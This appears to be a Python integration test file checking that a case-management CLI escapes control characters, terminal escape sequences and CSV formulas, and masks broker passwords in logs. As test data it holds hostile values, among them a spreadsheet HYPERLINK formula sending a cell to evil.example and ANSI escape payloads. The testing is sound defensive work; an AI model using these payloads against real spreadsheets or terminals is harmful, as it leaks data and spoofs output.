"""What the tools print, as a user sees it in a terminal: a sender's text escaped, passwords masked.

Before: an actor id holding a newline printed a fake line into `earlyhelp case`'s timeline, an escape
sequence in `team` reached the terminal, a district named `=HYPERLINK(...)` went into the CSV report
as a formula, and with several broker URLs the log masked only the first one's password. Control
characters are refused on intake now, but cases recorded before that keep theirs, and the tools must
print them safely: these tests write such values straight into the database.
"""
from __future__ import annotations

import csv
import io
import json
import re
import subprocess

import pytest
from sqlalchemy import update

from earlyhelp.persistence.database import make_engine
from earlyhelp.persistence.tables import case_history, cases
from tests.clock import child_env
from tests.e2e.conftest import earlyhelp_command
from tests.factories import encode, notification_body

pytestmark = [pytest.mark.integration]

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Dover")'
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f]")  # every control character but the line ends we print


def earlyhelp(env: dict, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([*earlyhelp_command(), *args], env=child_env(env), capture_output=True, timeout=60)


def test_the_timeline_and_lists_show_a_senders_control_characters_as_escapes(settings, engine, tap, upstream,
                                                                            serve_env):
    assert upstream.publish("earlyhelp.notifications", "notification.school", encode(notification_body())).ok
    case_id = tap.wait_for(lambda e: e["event_type"] == "case.checked")[0]["case_id"]
    db = make_engine(settings.database_url)
    with db.begin() as conn:
        conn.execute(update(case_history).where(case_history.c.case_id == case_id, case_history.c.sequence == 2)
                     .values(actor_id="triage-07\n   9  2026-12-01 09:00 UTC / 2026-12-01 09:00 UTC  case.closed",
                             actor_role="manager\x1b[2J", sender_user_id="portal\r"))
        conn.execute(update(cases).where(cases.c.case_id == case_id)
                     .values(team="Team \x1b]0;owned\x07", worker_id="w\u202e1", district=FORMULA))
    db.dispose()
    env = {**serve_env, "EARLYHELP_DISTRICTS": json.dumps([FORMULA, "Dover"])}

    shown = earlyhelp(env, "case", case_id)
    out = shown.stdout.decode()
    print(out)
    assert shown.returncode == 0, shown.stderr.decode()
    assert not CONTROL.search(out) and "\u202e" not in out and "\r" not in out
    assert "by triage-07\\n   9  2026-12-01 09:00 UTC" in out and "(manager\\x1b[2J)" in out
    assert "sent by broker user portal\\r" in out
    assert "team Team \\x1b]0;owned\\x07" in out and "worker w\\u202e1" in out
    assert not any(line.lstrip().startswith("9  2026-12-01") for line in out.splitlines())  # no fake line

    listed = earlyhelp(env, "cases")
    assert listed.returncode == 0 and not CONTROL.search(listed.stdout.decode())

    # The district reaches a spreadsheet as text, and the text report as itself.
    report = earlyhelp(env, "report", "--format", "csv", "--from", "2026-01-01", "--to", "2026-12-31")
    csv_text = report.stdout.decode()
    print(csv_text[:600])
    assert report.returncode == 0, report.stderr.decode()
    rows = list(csv.reader(io.StringIO(csv_text)))
    assert ["district", "'" + FORMULA, "count", "1"] in rows
    assert not any(cell.lstrip(" \t\r").startswith(("=", "+", "@")) for row in rows for cell in row)


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_the_engine_masks_every_password_of_a_failover_list(serve, settings, serve_env):
    """kombu's failover list `amqp://a;amqp://b`: the engine starts on the first URL and logs neither password."""
    first = settings.broker_url
    second = first.replace("guest:guest@127.0.0.1:5672", "guest:second-secret@127.0.0.1:5999", 1)
    engine = serve(env_extra={"EARLYHELP_BROKER_URL": f"{first};{second}"})
    assert engine.terminate() == 0
    log = engine.log_path.read_text()
    started = [json.loads(line) for line in log.splitlines() if '"engine started"' in line][0]
    print(started)
    assert started["broker"].count(":***@") == 2
    assert "guest:guest@" not in log and "second-secret" not in log
